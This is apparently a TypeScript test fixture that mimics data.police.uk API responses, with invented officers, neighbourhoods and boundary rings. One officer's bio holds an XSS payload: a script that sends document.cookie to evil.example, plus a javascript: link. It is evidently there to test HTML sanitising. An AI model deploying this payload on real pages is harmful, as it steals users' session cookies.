/**
 * Bodies in the exact shape data.police.uk sends them (string coordinates, null names, HTML bios,
 * sparse contact details), for the local test double. The shapes are the API's; the people are
 * invented, and the boundaries are small rings near the real places.
 */
export interface RecordedPoliceApi {
  forces: unknown[];
  /** By force id. */
  neighbourhoods: Record<string, unknown[]>;
  /** By `<force>/<neighbourhood>`. */
  boundaries: Record<string, unknown[]>;
  /** By `<force>/<neighbourhood>`. */
  neighbourhoodPeople: Record<string, unknown[]>;
  /** By force id. */
  forcePeople: Record<string, unknown[]>;
  /** `crimes-street-dates`: `{ date: "YYYY-MM", "stop-and-search": [...] }`, newest first; 404 when unset. */
  crimesStreetDates?: unknown[];
}

const ring = (points: [number, number][]) =>
  points.map(([latitude, longitude]) => ({
    latitude: latitude.toFixed(10),
    longitude: longitude.toFixed(10),
  }));

export function recordedPoliceApi(): RecordedPoliceApi {
  return {
    forces: [
      { id: 'avon-and-somerset', name: 'Avon and Somerset Constabulary' },
      { id: 'bedfordshire', name: 'Bedfordshire Police' },
      { id: 'btp', name: null },
      { id: 'city-of-london', name: 'City of London Police' },
      { id: 'leicestershire', name: 'Leicestershire Police' },
      { id: 'metropolitan', name: 'Metropolitan Police Service' },
      { id: 'west-midlands', name: 'West Midlands Police' },
    ],
    neighbourhoods: {
      leicestershire: [
        { id: 'NC04', name: 'City Centre' },
        { id: 'NC66', name: 'Braunstone &amp; Rowley Fields' },
        { id: 'NH10', name: 'Hinckley Town' },
      ],
      'city-of-london': [{ id: 'cs', name: 'Central' }],
    },
    boundaries: {
      'leicestershire/NC04': ring([
        [52.6394052587, -1.1458618876],
        [52.6401136981, -1.1274412371],
        [52.6307285813, -1.1243619121],
        [52.6282510035, -1.1396707426],
      ]),
      'leicestershire/NC66': ring([
        [52.6214087721, -1.1862317643],
        [52.6228001443, -1.1652189003],
        [52.6098110235, -1.1620013379],
        [52.6081742204, -1.1839420016],
        [52.6214087721, -1.1862317643],
      ]),
      // NH10 has no boundary recorded: the API answers 404 for it
      'city-of-london/cs': ring([
        [51.5185, -0.0983],
        [51.5192, -0.0781],
        [51.5101, -0.0779],
        [51.5093, -0.0965],
      ]),
    },
    neighbourhoodPeople: {
      'leicestershire/NC04': [
        {
          bio: '<p>I have worked in the city centre since 2015.&nbsp;Talk to us at the <strong>beat surgery</strong> every Friday.</p><p onclick="track()">Follow us<br />online.</p>',
          contact_details: {
            email: 'city.centre@example.police.uk',
            telephone: '101',
            twitter: 'http://www.twitter.com/example_city',
          },
          name: 'Sgt Jordan Example',
          rank: 'Sergeant',
        },
        {
          bio: null,
          contact_details: {},
          name: 'PC Casey Example',
          rank: 'PC',
        },
        {
          bio: '<script>document.location="https://evil.example/?c="+document.cookie</script><a href="javascript:alert(1)">About me</a>',
          contact_details: { facebook: 'www.facebook.com/example' },
          name: 'PCSO Robin Example',
          rank: 'PCSO',
        },
      ],
    },
    forcePeople: {
      leicestershire: [
        {
          bio: '<p>Chief Constable since 2024.</p><ul><li>Neighbourhood policing</li><li>Victims first</li></ul>',
          contact_details: {
            web: 'https://www.example.police.uk/chief',
            twitter: 'https://twitter.com/example_cc',
          },
          name: 'Morgan Example',
          rank: 'Chief Constable',
        },
      ],
    },
  };
}
